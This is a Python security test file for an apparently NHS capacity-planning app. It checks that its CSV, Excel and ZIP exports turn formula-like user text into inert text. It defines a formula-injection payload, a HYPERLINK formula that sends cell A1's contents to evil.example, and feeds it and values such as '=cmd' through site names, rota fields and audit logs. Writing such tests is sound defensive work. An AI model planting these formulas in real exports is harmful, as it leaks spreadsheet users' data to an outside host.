"""Every CSV and Excel export writes user text as text: no cell a spreadsheet would run."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import openpyxl
import pytest
import sqlalchemy as sa

from ics_capacity.db.models import Scenario
from ics_capacity.db.session import unit_of_work
from ics_capacity.services import auth, scenarios
from ics_capacity.services.audit_log import AuditFilter, audit_csv
from ics_capacity.services.data_exchange import (
    EXPORT_TABLES,
    SCENARIO_FORMATS,
    export_scenario,
    export_table,
)
from ics_capacity.services.editing import add_site
from ics_capacity.services.rota import export_csv, export_xlsx
from ics_capacity.services.spreadsheets import FORMULA_STARTS, safe_cell
from tests.conftest import TEST_PASSWORD

pytestmark = pytest.mark.security

EVIL = '=HYPERLINK("https://evil.example/?q="&A1,"Click")'


NUMBER = re.compile(r"^-?\d+(\.\d+)?(e-?\d+)?$")


def _csv_cells(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _xlsx_formulas(data: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


def _assert_safe(name: str, data: bytes) -> None:
    if name.endswith(".csv"):
        bad = [c for c in _csv_cells(data) if c.startswith(FORMULA_STARTS) and not NUMBER.match(c)]
        assert bad == [], f"{name}: {bad[:3]}"
        if "sites" in name:  # the text is kept, only made inert
            assert "'" + EVIL in _csv_cells(data)
    elif name.endswith(".xlsx"):
        assert _xlsx_formulas(data) == [], name
    elif name.endswith(".zip"):
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            for member in archive.namelist():
                _assert_safe(member, archive.read(member))


@pytest.fixture
def evil_scenario(app_db):
    url, emails = app_db
    manager = auth.sign_in(emails["manager"], TEST_PASSWORD)
    with unit_of_work(url) as session:
        baseline = session.execute(
            sa.select(Scenario.id).where(Scenario.is_baseline).order_by(Scenario.id)
        ).scalar()
    draft = scenarios.create_scenario(manager, baseline, "+Formula plan")
    add_site(
        manager,
        draft,
        code="EVIL",
        name=EVIL,
        operator_ods_code="RNA",
        is_elective_hub=True,
        theatres="2",
        sessions_per_week="10",
        elective_overnight_beds="4",
        day_case_places="4",
        treatment_functions=["C_110"],
    )
    return manager, draft


def test_the_neutraliser_keeps_numbers_and_marks_text() -> None:
    assert safe_cell("-12") == "'-12"
    assert safe_cell(-12) == -12
    assert safe_cell("@SUM(A1)") == "'@SUM(A1)"
    assert safe_cell("Walsall") == "Walsall"


def test_every_table_scenario_and_audit_export_is_inert(evil_scenario) -> None:
    """One scenario with a formula for a site name, through every export the app offers."""
    token, draft = evil_scenario
    for table in EXPORT_TABLES:
        for fmt in ("csv", "xlsx"):
            _assert_safe(*export_table(token, draft, table, fmt))
    for fmt in SCENARIO_FORMATS:
        if fmt != "json":  # JSON is data for programs, not a spreadsheet
            _assert_safe(*export_scenario(token, draft, fmt))
    data = audit_csv(token, AuditFilter(collaborative_id=_collaborative(draft))).encode()
    assert any(EVIL in c for c in _csv_cells(data))
    _assert_safe("audit.csv", data)
    assert not any(c.startswith("=") for c in _csv_cells(data))


def test_rota_exports_are_inert() -> None:
    """Staff and site text from a rota staff list stays text in the rota's CSV and workbook."""
    from ics_capacity.services.results import (
        Cell,
        ComplianceRow,
        CostLine,
        GapCost,
        RotaCost,
        RotaOutcome,
        SessionRow,
        ShiftMeta,
        StaffRow,
    )

    outcome = RotaOutcome.model_construct(
        dates=("2027-01-04",),
        shifts={
            "S1": ShiftMeta(
                site=EVIL,
                site_name=EVIL,
                kind="AM",
                label=EVIL,
                start="08:00",
                end="13:00",
                minutes=300,
            )
        },
        staff=(
            StaffRow(
                code="-ST1",
                label="@someone",
                role="surgeon",
                grade="=1+1",
                trust="+RNA",
                home_site=EVIL,
                employment="substantive",
                contract="full_time",
                hourly_cost_pence=5000,
                cells=(Cell(shift="S1", locked=False, leave=False),),
                minutes=300,
            ),
        ),
        sessions=(
            SessionRow(
                site=EVIL,
                day=0,
                kind="AM",
                skill="=cmd",
                role="surgeon",
                required=2,
                staffed=1,
                short=1,
                agency_pence=10000,
            ),
        ),
        compliance=(ComplianceRow(rule=EVIL, family="x", mode="hard", breaches=0, at_limit=0),),
        cost=RotaCost(
            substantive=CostLine(shifts=1, hours=5.0, pence=25000),
            bank=CostLine(),
            agency_gaps=GapCost(places=1, pence=10000),
            gaps_by_role={},
            total_pence=35000,
        ),
    )
    _assert_safe("rota.csv", export_csv(outcome))
    _assert_safe("rota.xlsx", export_xlsx(outcome))
    assert "'" + EVIL in _csv_cells(export_csv(outcome))


def _collaborative(scenario_id: int) -> int:
    with unit_of_work() as session:
        return session.get(Scenario, scenario_id).collaborative_id
